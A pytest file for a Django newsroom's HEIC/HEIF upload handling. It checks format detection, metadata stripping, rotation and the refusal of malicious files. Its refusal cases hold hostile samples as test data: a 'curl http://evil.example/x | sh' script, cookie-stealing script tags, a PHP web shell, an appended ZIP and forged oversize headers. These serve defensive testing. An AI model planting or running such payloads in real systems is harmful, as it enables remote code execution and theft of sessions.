"""HEIC/HEIF from reporters' iPhones: every upload rule holds for it, and AVIF stays Pillow's own.

The files are made by pillow-heif itself. Before a test asserts that something is gone (GPS, a rotation
tag, a second picture), it checks the file it built really carries it, so the test can fail.
"""

import io
import os
import struct
import subprocess
import sys
import zipfile
from pathlib import Path

import pillow_heif
import pytest
from PIL import ExifTags, ImageCms
from PIL import Image as PILImage

from articles.images import ImageRefused, accepted_formats, import_image, store_upload
from articles.models import Image, Rendition
from articles.tests.pictures import encode, heic_bytes, revealing_exif, two_tone, upload

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
RED, BLUE, GREEN = (220, 30, 30), (30, 30, 220), (30, 200, 30)
REVEALING = [b"SN-0451-9981", b"Field Photographer", b"Canon", b"EOS R5", b"Exif\x00\x00", b"xmpmeta", b"GPS 34.45N"]
XMP = b'<x:xmpmeta xmlns:x="adobe:ns:meta/">GPS 34.45N</x:xmpmeta>'


def heic_upload(data, name="IMG_0001.HEIC"):
    return upload(data, name, "image/heic")


def as_written(data):
    """The HEIC as it is on disk, read by pillow-heif without its Pillow plugin (which resets the EXIF rotation)."""
    return pillow_heif.open_heif(io.BytesIO(data))


def written_exif(data):
    exif = PILImage.Exif()
    exif.load(as_written(data).info["exif"])
    return exif


def opened(field_file):
    with field_file.open("rb") as handle:
        data = handle.read()
    return data, PILImage.open(io.BytesIO(data))


def stored_files(media_root):
    return sorted(p for p in media_root.rglob("*") if p.is_file()) if media_root.exists() else []


def colour_at(picture, xy):
    return picture.convert("RGB").getpixel(xy)


def close_to(found, expected, tolerance=40):
    return all(abs(a - b) <= tolerance for a, b in zip(found, expected, strict=True))


def with_declared_size(data, width, height):
    """`data` with the image size its header (`ispe`) declares changed: a bomb's calling card."""
    forged = bytearray(data)
    assert forged.count(b"ispe") == 1, "one picture, one size box"
    at = forged.index(b"ispe") + 8  # box type, then version and flags
    forged[at : at + 8] = struct.pack(">II", width, height)
    return bytes(forged)


def zip_bytes():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("Exploit.class", b"\xca\xfe\xba\xbe payload")
    return buffer.getvalue()


# --- the reader ----------------------------------------------------------------------------------------------


def test_heic_is_an_accepted_format_read_by_pillow_heif_and_avif_stays_pillows_own():
    assert "HEIF" in accepted_formats()
    assert PILImage.OPEN["HEIF"][0] is pillow_heif.HeifImageFile
    assert PILImage.OPEN["AVIF"][0].__module__ == "PIL.AvifImagePlugin"
    # Pillow tries its plugins in this order when no format is named: its own AVIF reader must come first.
    assert PILImage.ID.index("AVIF") < PILImage.ID.index("HEIF")


def test_a_fresh_process_reads_avif_with_pillow_even_when_branded_like_a_heic(tmp_path):
    # Some encoders give AVIF files the generic major brand `mif1`, which pillow-heif's opener also claims (and
    # cannot decode: its wheels hold no AV1 decoder). A process started like the web server must still read
    # them with Pillow's own AVIF plugin, so the start-up registration has to come after Pillow's plugins.
    avif = bytearray(encode(two_tone((64, 48)), "AVIF", quality=80))
    assert avif[8:12] == b"avif"
    avif[8:12] = b"mif1"
    (tmp_path / "generic.avif").write_bytes(bytes(avif))
    script = (
        "import django, sys; django.setup()\n"
        "from PIL import Image\n"
        "picture = Image.open(sys.argv[1]); picture.load()\n"
        "print(picture.format, type(picture).__module__)\n"
    )
    env = {**os.environ, "DJANGO_SETTINGS_MODULE": "newsroom.settings"}
    result = subprocess.run(
        [sys.executable, "-c", script, str(tmp_path / "generic.avif")],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )

    assert result.returncode == 0, result.stderr
    assert result.stdout.split() == ["AVIF", "PIL.AvifImagePlugin"]


def test_avif_upload_is_still_read_as_avif_with_the_heic_reader_installed():
    avif = bytearray(encode(two_tone((64, 48)), "AVIF", quality=80))
    avif[8:12] = b"mif1"

    image, _ = store_upload(upload(bytes(avif), "phone.avif", "image/avif"), alt_text="A road")

    assert image.original_format == "AVIF"
    assert opened(image.file)[1].format == "JPEG"


# --- accepted, cleaned, stored -----------------------------------------------------------------------------


def test_iphone_heic_is_stored_as_jpeg_and_its_renditions_are_made(media_root):
    data = encode(two_tone((320, 200), left=RED, right=BLUE), "HEIF", quality=90)
    assert data[4:12] == b"ftypheic"

    image, created = store_upload(heic_upload(data), alt_text="A street", credit="Reporter")

    assert created
    assert image.original_format == "HEIF"
    assert image.title == "IMG 0001"
    assert image.file.name.endswith(".jpg")
    _, stored = opened(image.file)
    assert stored.format == "JPEG" and stored.size == (320, 200) == (image.width, image.height)
    assert close_to(colour_at(stored, (40, 100)), RED) and close_to(colour_at(stored, (280, 100)), BLUE)
    made = image.renditions_for(["w160-16x9.jpg", "w160-1x1.webp"])
    assert {spec: opened(r.file)[1].format for spec, r in made.items()} == {
        "w160-16x9.jpg": "JPEG",
        "w160-1x1.webp": "WEBP",
    }
    assert opened(made["w160-16x9.jpg"].file)[1].size == (160, 90)
    assert image.renditions.count() == 3  # the admin's thumbnail, made at upload, and the two asked for


def test_heic_named_jpg_is_read_as_heic_by_its_content():
    image, _ = store_upload(upload(heic_bytes(), "photo.jpg", "image/jpeg"), alt_text="A wall")

    assert image.original_format == "HEIF"
    assert opened(image.file)[1].format == "JPEG"


def test_heic_with_the_generic_mif1_brand_is_read_as_heic():
    data = bytearray(heic_bytes())
    data[8:12] = b"mif1"  # the generic HEIF brand some encoders write, which Pillow's AVIF plugin claims too

    image, _ = store_upload(heic_upload(bytes(data)), alt_text="A wall")

    assert image.original_format == "HEIF"


def test_heic_with_transparency_is_stored_as_png_and_keeps_it():
    picture = two_tone((64, 48), left=(220, 30, 30, 0), right=(30, 30, 220, 255), mode="RGBA")
    data = encode(picture, "HEIF", quality=90)
    assert as_written(data).mode == "RGBA"

    image, _ = store_upload(heic_upload(data, "overlay.heif"), alt_text="A map")

    _, stored = opened(image.file)
    assert image.original_format == "HEIF"
    assert stored.format == "PNG" and image.file.name.endswith(".png")
    assert stored.getpixel((5, 5))[3] < 20 and stored.getpixel((60, 5))[3] > 235


def test_heic_tiled_in_a_grid_as_iphones_store_it_is_decoded_whole():
    data = encode(two_tone((200, 150), left=RED, right=BLUE), "HEIF", quality=90, tile_size=64)
    assert "tiling" in as_written(data).info, "the test file must be a grid of tiles"

    image, _ = store_upload(heic_upload(data), alt_text="A flag")

    _, stored = opened(image.file)
    assert stored.size == (200, 150)
    assert close_to(colour_at(stored, (5, 145)), RED) and close_to(colour_at(stored, (195, 145)), BLUE)


def test_heic_with_gps_comes_out_without_any_metadata(media_root):
    data = heic_bytes((320, 200), exif=revealing_exif(), xmp=XMP)
    written = written_exif(data)
    assert written.get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSLatitude] == (34.0, 27.0, 15.5)
    assert written.get_ifd(ExifTags.IFD.Exif)[ExifTags.Base.BodySerialNumber] == "SN-0451-9981"
    assert b"GPS 34.45N" in as_written(data).info["xmp"]
    for secret in REVEALING:
        assert secret in data, secret

    image, _ = store_upload(heic_upload(data), alt_text="A street")

    files = [image.file, *(r.file for r in image.renditions_for(["w120-16x9.jpg", "w120-1x1.webp"]).values())]
    files += [r.file for r in image.renditions.all()]
    for field_file in files:
        stored_data, stored = opened(field_file)
        assert not stored.getexif(), field_file.name
        assert not {"exif", "xmp", "comment"} & set(stored.info), field_file.name
        for secret in REVEALING:
            assert secret not in stored_data, (field_file.name, secret)


@pytest.mark.parametrize(
    ("orientation", "size", "red_at", "blue_at"),
    [
        # 6: turned a quarter clockwise for viewing, so the left (red) half ends on top.
        (6, (40, 60), (20, 5), (20, 55)),
        # 8: a quarter anticlockwise, so the left half ends at the bottom.
        (8, (40, 60), (20, 55), (20, 5)),
        # 3: upside down, so the left half ends on the right.
        (3, (60, 40), (55, 20), (5, 20)),
    ],
)
def test_turned_iphone_heic_is_stored_upright_turned_once(orientation, size, red_at, blue_at):
    data = encode(
        two_tone((60, 40), left=RED, right=BLUE), "HEIF", quality=95, exif=revealing_exif(orientation).tobytes()
    )
    # As an iPhone writes it: the pixels as the sensor saw them, the rotation in the container (`irot`) and the
    # same rotation in the EXIF tag beside it. Applying both would turn the picture twice.
    assert written_exif(data)[ExifTags.Base.Orientation] == orientation
    assert any(step[0] == "irot" for step in as_written(data)[0]._c_image.transformations)

    image, _ = store_upload(heic_upload(data), alt_text="A wall")

    _, stored = opened(image.file)
    assert stored.size == size == (image.width, image.height)
    assert close_to(colour_at(stored, red_at), RED), colour_at(stored, red_at)
    assert close_to(colour_at(stored, blue_at), BLUE), colour_at(stored, blue_at)
    assert ExifTags.Base.Orientation not in stored.getexif()
    thumbnail = opened(image.renditions.get().file)[1]
    assert (thumbnail.width < thumbnail.height) == (size[0] < size[1])


def test_heic_keeps_its_colour_profile_and_nothing_else():
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    data = heic_bytes((80, 60), icc_profile=profile, exif=revealing_exif())
    assert as_written(data).info["icc_profile"] == profile

    image, _ = store_upload(heic_upload(data), alt_text="A field")

    assert opened(image.file)[1].info.get("icc_profile") == profile
    assert opened(image.renditions.get().file)[1].info.get("icc_profile") == profile


def test_heic_holding_several_pictures_gives_its_primary_one():
    # A burst: three pictures in one container, the middle one marked primary (the one phones show).
    first, primary, last = (
        PILImage.new("RGB", size, colour) for size, colour in [((64, 48), RED), ((80, 40), GREEN), ((48, 64), BLUE)]
    )
    buffer = io.BytesIO()
    first.save(buffer, "HEIF", save_all=True, append_images=[primary, last], primary_index=1, quality=90)
    data = buffer.getvalue()
    written = as_written(data)
    assert (len(written), written.primary_index) == (3, 1)

    image, _ = store_upload(heic_upload(data, "burst.heic"), alt_text="A flag")

    _, stored = opened(image.file)
    assert stored.size == (80, 40) == (image.width, image.height)
    assert close_to(colour_at(stored, (40, 20)), GREEN)
    assert getattr(stored, "n_frames", 1) == 1


# --- refused: nothing is left behind -----------------------------------------------------------------------


def _heic():
    return heic_bytes((320, 200))


def _cut_in_pixels():
    data = _heic()
    assert data.index(b"mdat") < len(data) - 60
    return data[:-50]


def _cut_in_header():
    data = _heic()
    meta_end = data.index(b"meta") - 4 + struct.unpack(">I", data[data.index(b"meta") - 4 : data.index(b"meta")])[0]
    assert meta_end > 200
    return data[: meta_end - 100]


REFUSED = {
    ".heic that is a script": (lambda: b"#!/bin/sh\ncurl http://evil.example/x | sh\n", "not a picture"),
    ".heic that is a web page": (
        lambda: b"<!DOCTYPE html><html><script>fetch('/admin/')</script></html>",
        "not a picture",
    ),
    "HEIC cut short in its pixels": (_cut_in_pixels, "The picture is damaged and cannot be read."),
    "HEIC cut short in its header": (_cut_in_header, "The picture is damaged and cannot be read."),
    "HEIC with a ZIP appended": (lambda: _heic() + zip_bytes(), "ZIP or JAR"),
    "HEIC with a script appended": (lambda: _heic() + b"<script>alert(document.cookie)</script>", "markup or script"),
    "HEIC with a script in its XMP": (
        lambda: heic_bytes(xmp=b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><script>alert(1)</script></x:xmpmeta>'),
        "markup or script",
    ),
    "HEIC with a PDF header": (lambda: heic_bytes(xmp=b"%PDF-1.4 1 0 obj"), "PDF"),
}


@pytest.mark.parametrize("case", list(REFUSED))
def test_refused_heic_leaves_nothing_behind(case, media_root):
    build, reason = REFUSED[case]

    with pytest.raises(ImageRefused, match=reason):
        store_upload(heic_upload(build()), alt_text="x", credit="x")

    assert Image.objects.count() == 0
    assert Rendition.objects.count() == 0
    assert stored_files(media_root) == []


def test_the_pictures_refused_above_are_whole_heics_but_for_the_flaw():
    # The polyglot cases start from a good HEIC, so their refusal is for what was added to it.
    image, created = store_upload(heic_upload(_heic()), alt_text="x")
    assert created and image.original_format == "HEIF"


def test_refusal_names_heic_among_the_accepted_formats():
    with pytest.raises(ImageRefused) as refusal:
        store_upload(heic_upload(b"MZ\x90\x00 a program"), alt_text="x")

    assert str(refusal.value) == (
        "This file is not a picture the library accepts (JPEG, PNG, WebP, GIF, AVIF, HEIC/HEIF), "
        "whatever its name says."
    )


def test_heic_declaring_too_many_pixels_is_refused_before_decoding(media_root):
    # 9000 × 9000 declared over 64 × 64 pixels of data: decoding would fail as damage, so the size message
    # shows the header was judged first.
    forged = with_declared_size(encode(PILImage.new("RGB", (64, 64), RED), "HEIF"), 9000, 9000)

    with pytest.raises(ImageRefused, match=r"9000 × 9000 pixels; the most the library accepts is 60 megapixels"):
        store_upload(heic_upload(forged), alt_text="x")

    assert Image.objects.count() == 0
    assert stored_files(media_root) == []


def test_heic_beyond_pillows_own_limit_is_refused_too(media_root):
    forged = with_declared_size(encode(PILImage.new("RGB", (64, 64), RED), "HEIF"), 60000, 60000)

    with pytest.raises(ImageRefused, match="more pixels than the library accepts"):
        store_upload(heic_upload(forged), alt_text="x")

    assert stored_files(media_root) == []


def test_heic_pixel_limit_comes_from_settings(settings):
    settings.NEWSROOM_IMAGE_MAX_PIXELS = 100 * 100

    with pytest.raises(ImageRefused, match="200 × 200 pixels"):
        store_upload(heic_upload(heic_bytes((200, 200))), alt_text="x")
    _, created = store_upload(heic_upload(heic_bytes((100, 100))), alt_text="x")

    assert created


# --- the importer's door -------------------------------------------------------------------------------------


def test_importer_attaches_an_iphone_heic_through_the_safe_path(tmp_path, reporter):
    path = tmp_path / "field" / "IMG_0042.HEIC"
    path.parent.mkdir()
    path.write_bytes(heic_bytes((320, 200), exif=revealing_exif(6)))

    image = import_image(path, caption="Smoke over Mosul.", credit="Staff", alt_text="Smoke", uploaded_by=reporter)

    assert image.original_format == "HEIF"
    assert (image.width, image.height) == (200, 320)
    stored_data, stored = opened(image.file)
    assert stored.format == "JPEG"
    assert b"SN-0451-9981" not in stored_data and not stored.getexif()


def test_importer_refuses_a_script_named_heic_and_saves_nothing(tmp_path, media_root):
    path = tmp_path / "IMG_0001.heic"
    path.write_bytes(b"<?php system($_GET['c']); ?>")

    with pytest.raises(ImageRefused, match="not a picture"):
        import_image(path, caption="", credit="Staff", alt_text="x")

    assert Image.objects.count() == 0
    assert stored_files(media_root) == []
